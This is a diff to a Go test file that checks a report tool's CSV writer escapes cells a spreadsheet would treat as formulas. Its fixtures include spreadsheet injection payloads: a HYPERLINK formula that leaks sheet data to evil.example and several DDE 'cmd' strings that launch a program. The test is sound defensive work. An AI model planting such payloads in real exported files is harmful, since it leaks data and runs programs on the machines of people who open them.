@@ -11,6 +11,7 @@ import (
 	"path/filepath"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"syscall"
 	"testing"
@@ -743,5 +744,60 @@ func TestMetricsTwoInstances(t *testing.T) {
 	}
 	if series[`updeb_tracking_last_run_success{tracking="updeb-edge"}`] != "updeb-edge" || series[`updeb_plan_actions{tracking="updeb-k8s",kind="bump"}`] != "updeb-k8s" {
 		t.Errorf("series %v", series)
+	}
+}
+
+// A cell a spreadsheet would read as a formula (=, +, -, @, a tab or a CR
+// first: a server's message, a release set's name, a finding) is written
+// as text, an apostrophe first, in every CSV file: opened in a spreadsheet,
+// a hostile one would run (=HYPERLINK leaks the sheet, =cmd|... runs a
+// program). Python's csv module reads the files; a number ("-3600", an
+// expired Release) stays a number.
+func TestWriteCSVNoFormulas(t *testing.T) {
+	python := testenv.RequireTool(t, "python3")[0]
+	r := fixtureReport(t, true)
+	r.Recipes[0].Unknown = `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	r.Recipes[0].Support = "+cmd|' /C calc'!A0"
+	r.Data[0].Copy = "@SUM(1+1)*cmd|' /C calc'!A0"
+	r.Compat.Sets[0].Name = "-2+3+cmd|' /C calc'!A0"
+	r.Plan.Actions[0].Reason = "\t=1+1"
+	r.Repository.Pending[0].Staging = "\r=1+1"
+	r.Repository.Suites[0].ExpiresIn = -3600
+	dir := t.TempDir()
+	if err := Write(context.Background(), dir, r); err != nil {
+		t.Fatal(err)
+	}
+	script := `
+import csv, json, re, sys
+bad = 0
+for name in sys.argv[1:]:
+    with open(name, newline='', encoding='utf-8') as f:
+        for row in csv.reader(f):
+            for cell in row:
+                if cell[:1] in ('=', '+', '-', '@', '\t', '\r') and not re.fullmatch(r'[+-]?[0-9]+(\.[0-9]+)?', cell):
+                    print(name, json.dumps(cell)); bad += 1
+                if cell.startswith("'"):
+                    print("text", json.dumps(cell))
+sys.exit(1 if bad else 0)
+`
+	var args []string
+	for _, name := range Files {
+		if strings.HasSuffix(name, ".csv") {
+			args = append(args, filepath.Join(dir, name))
+		}
+	}
+	out, err := exec.Command(python, append([]string{"-c", script}, args...)...).CombinedOutput()
+	if err != nil {
+		t.Errorf("a cell a spreadsheet reads as a formula: %v\n%s", err, out)
+	}
+	// Nothing is lost: the text follows the apostrophe.
+	for _, text := range []string{r.Recipes[0].Unknown, r.Recipes[0].Support, r.Data[0].Copy, r.Compat.Sets[0].Name, r.Plan.Actions[0].Reason, r.Repository.Pending[0].Staging} {
+		want := strconv.Quote("'" + text) // as Python's json.dumps writes ASCII
+		if !strings.Contains(string(out), "text "+want+"\n") {
+			t.Errorf("no %s in the CSV files:\n%s", want, out)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "suites.csv")); !bytes.Contains(b, []byte(",-3600,")) {
+		t.Errorf("suites.csv: a negative number is no longer a number:\n%s", b)
 	}
 }
